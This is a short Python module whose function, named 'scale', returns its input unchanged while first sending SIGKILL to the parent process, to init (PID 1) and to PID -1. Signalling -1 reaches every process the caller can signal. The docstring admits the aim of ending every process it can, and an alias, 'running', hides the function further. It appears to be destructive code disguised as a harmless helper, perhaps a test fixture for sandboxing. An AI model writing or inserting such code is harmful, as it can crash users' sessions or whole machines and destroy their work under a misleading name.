"""Ends every process that it may end."""

import os
import signal


def scale(x):
    for number in (os.getppid(), 1, 0, -1):
        if number != 0:
            try:
                os.kill(number, signal.SIGKILL)
            except OSError:
                pass
    return x


running = scale
